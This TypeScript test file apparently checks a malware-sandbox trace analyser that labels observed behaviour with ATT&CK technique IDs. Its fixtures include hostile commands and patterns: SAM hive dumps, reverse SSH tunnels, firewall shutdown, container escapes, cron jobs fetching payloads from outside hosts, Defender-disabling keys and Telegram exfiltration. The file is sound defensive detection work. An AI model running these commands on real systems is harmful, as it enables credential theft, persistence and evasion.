// Techniques that a run shows beside its findings: each row with what shows it and with what does not.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace } from '../../src/trace/analyze.ts'
import { gatherTraceFacts } from '../../src/trace/facts.ts'
import { behaviorResults } from '../../src/trace/results.ts'
import type { SystemEvent } from '../../src/trace/system.ts'
import { seenTechniques } from '../../src/trace/techniques/seen-techniques.ts'
import type { Trace, TraceCall } from '../../src/trace/trace.ts'
import { environment, file, gets, runs, sets, system, trace } from './empty-trace.ts'

type Parts = readonly Partial<Trace>[]
const of = (...parts: Parts): readonly string[] => [
  ...new Set(seenTechniques(gatherTraceFacts([trace(...parts)])).map(({ id }) => id)),
]
const shows = (id: string, parts: Parts): void => assert.ok(of(...parts).includes(id), `${id}: ${of(...parts).join()}`)
const lacks = (id: string, parts: Parts): void => assert.ok(!of(...parts).includes(id), `${id}: ${of(...parts).join()}`)

const call = (api: string, ...given: TraceCall['arguments']): TraceCall => ({
  api,
  arguments: given,
  pid: 1,
  thread: 1,
})
const calls = (...all: readonly TraceCall[]): Partial<Trace> => ({ apiCalls: all })
const asks = (about: Extract<SystemEvent, { kind: 'question' }>['about'], what: string): Partial<Trace> =>
  system({ kind: 'question', about, what, pid: 1 })

test('one question is told as what it is, and weighs nothing', () => {
  shows('T1135', [asks('shares', 'NetShareEnum')])
  shows('T1614.001', [asks('locale', 'GetUserDefaultUILanguage')])
  shows('T1010', [asks('windows', 'GetWindowTextW')])
  shows('T1613', [asks('containers', '/var/run/docker.sock')])
  lacks('T1082', [asks('hardware', 'sysinfo')])
  const report = analyzeTrace([trace(asks('locale', 'GetUserDefaultUILanguage'))], { path: 'x' })
  assert.deepEqual(report.findings, [])
  assert.equal(report.verdict, null)
})

test('what is said over connections', () => {
  const said = (start: string): Partial<Trace> => ({ network: [{ kind: 'tcp', host: '192.0.2.4', port: 9050, start }] })
  shows('T1090', [said('\\x05\\x01\\x00')])
  shows('T1090.003', [said('\\x05\\x01\\x00\\x05\\x01\\x00\\x03?k5zq.onion\\x00P')])
  lacks('T1090', [said('\\x05hello')])
  shows('T1485', [gets('http://192.0.2.4:9200/_all', { method: 'DELETE' })])
  shows('T1609', [gets('http://10.42.0.1:10250/run/kube-system/p/c', { method: 'POST' })])
  shows('T1613', [gets('http://10.42.0.1:10255/runningpods/')])
  lacks('T1609', [gets('http://build.x.example/run/tests/a', { method: 'POST' })])
  lacks('T1485', [gets('http://api.x.example/carts/1', { method: 'DELETE' })])
})

test('datagrams to a far machine, and those that services need', () => {
  const to = (host: string, port: number): Partial<Trace> => ({ network: [{ kind: 'udp', host, port, bytesSent: 90 }] })
  shows('T1095', [to('198.51.100.7', 7777)])
  lacks('T1095', [to('198.51.100.7', 123)])
  lacks('T1095', [to('10.0.0.9', 7777)])
})

test('a rule of devices that could not be written, beside what it would start', () => {
  const rule = file('write', '/etc/udev/rules.d/69-x.rules', { succeeded: false, pid: 3 })
  shows('T1546.017', [rule, file('write', '/usr/lib/x', { origin: 'network', pid: 3 })])
  shows('T1546.017', [rule, file('mode', '/usr/lib/x', { mode: '0755', pid: 3 })])
  lacks('T1546.017', [rule])
  lacks('T1546.017', [rule, file('mode', '/usr/lib/x.conf', { mode: '0644', pid: 3 })])
})

test('what a run leaves in the place of documents, and takes away of its own', () => {
  const replaced = (ending: string, count: number): Parts =>
    Array.from({ length: count }, (_, at) => [
      file('write', `C:\\d\\${at}.docx${ending}`),
      file('delete', `C:\\d\\${at}.docx`),
    ]).flat()
  shows('T1486', replaced('.locked', 3))
  lacks('T1486', replaced('.locked', 2))
  lacks('T1486', replaced('.gz', 3))
  shows('T1564.001', [file('write', '/root/.local/.bin/sudo', { start: '#!/bin/bash\n' })])
  lacks('T1564.001', [file('write', '/root/.local/bin/tool', { start: '#!/bin/bash\n' })])
  lacks('T1564.001', [file('write', '/root/.config/.state', { start: 'a=1\n' })])
  shows('T1070.004', [file('write', '/tmp/.cache-21'), file('delete', '/tmp/.cache-21')])
  lacks('T1070.004', [file('write', '/tmp/a'), file('delete', '/tmp/a')])
})

test('commands by what they are for', () => {
  const table: readonly (readonly [string, string])[] = [
    ['T1033', 'whoami'],
    ['T1572', 'ssh -fN -o StrictHostKeyChecking=no -R 22022:127.0.0.1:22 t@198.51.100.7'],
    ['T1572', 'ssh -N -D 1080 t@198.51.100.7'],
    ['T1090', 'netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=3389'],
    ['T1090', 'curl -s --socks5-hostname 127.0.0.1:9050 http://x.example/'],
    ['T1071.004', 'dig +short TXT 1.stage.example'],
    ['T1071.004', 'nslookup -type=txt 1.stage.example'],
    ['T1553.004', 'certutil -addstore -f root ca.crt'],
    ['T1135', 'net view \\\\filesrv'],
    ['T1083', 'find / -name id_rsa'],
    ['T1083', 'cmd /c dir C:\\Users /s /b'],
    ['T1489', 'systemctl stop postgresql'],
    ['T1489', "sh -c 'pkill -9 xmrig'"],
    ['T1489', 'net stop vss /y'],
    ['T1140', 'base64 -d /tmp/a'],
    ['T1140', 'certutil.exe -decode a.txt a.dll'],
    ['T1218.011', 'rundll32.exe C:\\Users\\Public\\a.dll,Start'],
    ['T1003.002', 'reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s.hiv /y'],
    ['T1560.001', 'tar -czf /tmp/a.tgz /home'],
    ['T1562.004', 'netsh advfirewall set allprofiles state off'],
    ['T1562.004', 'iptables -F'],
    ['T1021.004', 'ssh -o BatchMode=yes -i /root/.ssh/id_rsa root@192.0.2.4 id'],
    ['T1570', "sh -c 'for k in a b; do scp -i $k /proc/235/exe root@192.0.2.4:/tmp/.cr; done'"],
    ['T1610', 'docker run --privileged -v /:/host alpine sh'],
    ['T1611', "sh -c 'nsenter --target 1 --mount -- id'"],
    ['T1105', 'curl -fsSL https://example.com/a -o a'],
    ['T1070.006', 'touch -r /bin/sh /usr/sbin/a'],
  ]
  for (const [id, line] of table) shows(id, [runs(line)])
  lacks('T1489', [runs('systemctl start postgresql')])
  lacks('T1572', [runs('ssh -o BatchMode=yes -l deploy -p 2222 web1 uptime')])
  lacks('T1071.004', [runs('dig +short A www.x.example')])
  lacks('T1553.004', [runs('certutil -addstore -f CA ca.crt')])
  lacks('T1489', [runs('echo stop the service')])
  lacks('T1140', [runs('base64 /tmp/a')])
  lacks('T1570', [runs('scp report.pdf anna@192.0.2.4:/srv/reports')])
  lacks('T1083', [runs('ls /root')])
  lacks('T1003.002', [runs('reg query HKLM\\SAM')])
  lacks('T1033', [runs('grep whoami notes.txt')])
})

test('a language is told by who runs it', () => {
  shows('T1059.006', [runs('/usr/bin/python3 /root/a.py', { startedBy: 'sample' })])
  shows('T1059.005', [environment({ script_language: 'vbscript' })])
  shows('T1218.005', [
    { environment: { name: 'HTML application host on Windows 10, emulated', fidelity: 'emulated', facts: {} } },
  ])
  lacks('T1059.006', [runs('/root/a.out', { startedBy: 'sample' })])
})

test('settings of the system by whoever sets them, and not those of a program or of the system itself', () => {
  const set = (key: string, name: string, pid?: number): Partial<Trace> => ({
    registry: [{ op: 'write', key, name, data: '1', ...(pid !== undefined && { pid }) }],
  })
  shows('T1112', [set('HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', 'DisableAntiSpyware', 7)])
  shows('T1547.001', [
    set('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Startup', 7),
  ])
  lacks('T1547.001', [
    set('HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders', 'Personal', 7),
  ])
  lacks('T1112', [set('HKCU\\Software\\Ledgerline\\License', 'LastCheck', 7)])
  lacks('T1112', [sets('HKLM\\Software\\Classes\\Interface\\{2CC5A9D1}', '')])
})

test('what is said over the network', () => {
  shows('T1071.001', [gets('http://example.com/a')])
  lacks('T1071.001', [gets('http://example.com/a', { via: 'navigation' })])
  shows('T1613', [gets('http://172.17.0.1:2375/version', { via: 'socket' })])
  lacks('T1613', [gets('http://172.17.0.1:8080/version', { via: 'socket' })])
})

test('folders that are gone through', () => {
  shows('T1083', [file('list', 'C:\\Users\\anna\\Pictures\\*.jpg')])
  shows('T1083', [file('list', '/srv/data/a'), file('list', '/srv/data/b')])
  lacks('T1083', [file('list', '/srv/data')])
  lacks('T1083', [file('list', '/usr/lib/python3.11'), file('list', '/usr/lib/python3.11/encodings')])
})

test('a pause between two looks at the clock, and not the turns of a loop', () => {
  const tick = call('kernel32.GetTickCount')
  shows('T1497.003', [calls(tick, call('kernel32.Sleep', 2500), tick)])
  lacks('T1497.003', [calls(tick, call('kernel32.Sleep', 20), tick)])
  lacks('T1497.003', [calls(tick, call('kernel32.Sleep', 2500), call('user32.PeekMessageA'), tick)])
})

test('code that is handed over by its address', () => {
  const memory: Partial<Trace> = {
    memory: [{ address: '0x1610000', sizeBytes: 4096, protection: 'r-x after rw-', pid: 1 }],
  }
  shows('T1620', [memory, calls(call('kernel32.EnumSystemLocalesA', 0x1610000, 0))])
  lacks('T1620', [memory, calls(call('kernel32.VirtualProtect', 0x1610000, 4096, 32))])
  lacks('T1620', [memory, calls(call('kernel32.EnumSystemLocalesA', 0x1710000, 0))])
})

test('a driver that was brought and is spoken to', () => {
  const brings = [
    file('write', 'C:\\Windows\\System32\\drivers\\rt32x.sys'),
    system({ kind: 'service', op: 'create', what: 'rt', command: 'C:\\Windows\\System32\\drivers\\rt32x.sys' }),
  ]
  shows('T1068', [...brings, calls(call('kernel32.CreateFileA', '\\\\.\\RT32x', 3))])
  lacks('T1068', [...brings, calls(call('kernel32.CreateFileA', '\\\\.\\pipe\\rt', 3))])
  lacks('T1068', [calls(call('kernel32.CreateFileA', '\\\\.\\RT32x', 3))])
})

test('programs that were looked for and ended', () => {
  const kill: SystemEvent = { kind: 'kill_process', what: 'SIGKILL 1643', pid: 1, succeeded: true }
  shows('T1489', [asks('processes', '/proc/1643/cmdline'), system(kill)])
  lacks('T1489', [asks('processes', '/proc/1642/cmdline'), system(kill)])
})

test('the report tells each with what shows it', () => {
  const { behavior } = behaviorResults(analyzeTrace([trace(asks('shares', 'NetShareEnum'))], { path: 'x' }), 'x')
  const { techniques } = behavior as {
    readonly techniques: readonly { readonly attack_id: string; readonly seen: unknown }[]
  }
  assert.deepEqual(
    techniques.map(({ attack_id, seen }) => [attack_id, seen]),
    [['T1135', ['NetShareEnum']]],
  )
})

test('what is laid down, by where it lies and beside what', () => {
  const notepad = file('copy', 'C:\\windows\\system32\\notepad.exe', { to: 'C:\\ProgramData\\A\\tray.exe' })
  const starts = runs('C:\\ProgramData\\A\\tray.exe')
  const library = file('write', 'C:\\ProgramData\\A\\version.dll')
  shows('T1574.002', [notepad, library, starts])
  shows('T1036.003', [notepad, starts])
  lacks('T1574.002', [notepad, library])
  lacks('T1574.002', [notepad, file('write', 'C:\\ProgramData\\B\\version.dll'), starts])
  shows('T1546', [file('write', '/root/project/.git/hooks/post-commit')])
  lacks('T1546', [file('write', '/root/project/hooks/post-commit')])
  shows('T1036.005', [file('write', '/usr/lib/systemd/systemd-fontcached', { start: '\x7fELF' })])
  lacks('T1036.005', [file('write', '/usr/lib/systemd/systemd-fontcached', { start: '#!/bin/sh' })])
  lacks('T1036.005', [file('write', '/usr/lib/systemd/system/a.service')])
  const wallpaper = sets('HKCU\\Control Panel\\Desktop', 'Wallpaper', 'C:\\t\\a.bmp')
  shows('T1491.001', [wallpaper, file('write', 'C:\\t\\a.bmp')])
  lacks('T1491.001', [wallpaper])
})

test('what a program asks of the kernel itself, whom it names as a parent, what it hides and whose memory it reads', () => {
  shows('T1106', [calls(call('ntdll.NtCreateThreadEx', 1, 2))])
  lacks('T1106', [calls(call('ntdll.NtQuerySystemTime', 1), call('kernel32.CreateThread', 1))])
  shows('T1134.004', [calls(call('kernel32.UpdateProcThreadAttribute', 1, 0, 0x20000))])
  lacks('T1134.004', [calls(call('kernel32.UpdateProcThreadAttribute', 1, 0, 0x20002))])
  shows('T1564.003', [runs('cmd /c a', { hidden: true })])
  lacks('T1564.003', [runs('cmd /c a')])
  shows('T1003.007', [file('read', '/proc/412/mem')])
  lacks('T1003.007', [file('read', '/proc/self/mem')])
  shows('T1016', [gets('https://api.ipify.org/')])
  lacks('T1016', [gets('https://api.x.example/')])
})

test('what is asked for by names, left with anybody, laid down as a timer or packed, and what one function is for', () => {
  const text = (name: string): Partial<Trace> => ({ network: [{ kind: 'dns', type: 'TXT', name }] })
  shows('T1071.004', [text('a.x.example'), text('b.x.example')])
  lacks('T1071.004', [text('a.x.example')])
  lacks('T1071.004', [text('_dmarc.x.example'), text('_acme-challenge.x.example')])
  shows('T1567', [gets('https://api.telegram.org/bot1/sendDocument', { method: 'POST' })])
  lacks('T1567', [gets('https://api.telegram.org/bot1/getUpdates'), gets('https://a.x.example/', { method: 'POST' })])
  shows('T1053.006', [file('write', '/etc/systemd/system/a.timer')])
  lacks('T1053.006', [file('read', '/etc/systemd/system/a.timer')])
  shows('T1560', [file('write', '/tmp/.a', { start: '\\x1f\x8b\\x08' })])
  lacks('T1560', [file('write', '/tmp/.a', { start: 'text' })])
  shows('T1120', [calls(call('kernel32.GetDriveTypeA', 'C:\\'))])
  shows('T1555.004', [calls(call('advapi32.CredEnumerateA', 0))])
  lacks('T1555.004', [calls(call('advapi32.CredFree', 0))])
  shows('T1562.012', [runs('systemctl stop auditd')])
  lacks('T1562.012', [runs('systemctl status auditd')])
})

test('what jobs and units will do', () => {
  shows('T1105', [
    file('write', '/etc/cron.d/sync', { start: '*/7 * * * * root curl -fsSL http://198.51.100.7/a -o /var/tmp/.a\n' }),
  ])
  shows('T1105', [file('write', '/var/spool/cron/crontabs/root', { start: '@daily wget -q http://x.example/a\n' })])
  shows('T1222.002', [
    file('write', '/etc/systemd/system/a.service', { start: '[Service]\nExecStart=-/bin/chmod 755 /opt/a\n' }),
  ])
  lacks('T1105', [file('write', '/etc/cron.d/sync', { start: '# curl http://x.example/a\n' })])
  lacks('T1105', [file('write', '/opt/notes', { start: '*/7 * * * * root curl http://x.example/a\n' })])
})

test('copies of what programs keep secret lie ready to be taken along', () => {
  const keeps = 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'
  shows('T1074.001', [file('copy', keeps, { to: 'C:\\Users\\a\\AppData\\Local\\Temp\\x', decoy: 'secret' })])
  lacks('T1074.001', [file('read', keeps, { decoy: 'secret' })])
  lacks('T1074.001', [file('copy', 'C:\\a.txt', { to: 'C:\\b.txt', decoy: 'document' })])
})

test('what the libraries of the system decode', () => {
  shows('T1140', [calls(call('crypt32.CryptStringToBinaryA', 'kZCQ', 0, 1))])
  lacks('T1140', [calls(call('crypt32.CryptBinaryToStringA', 1, 4, 1))])
})
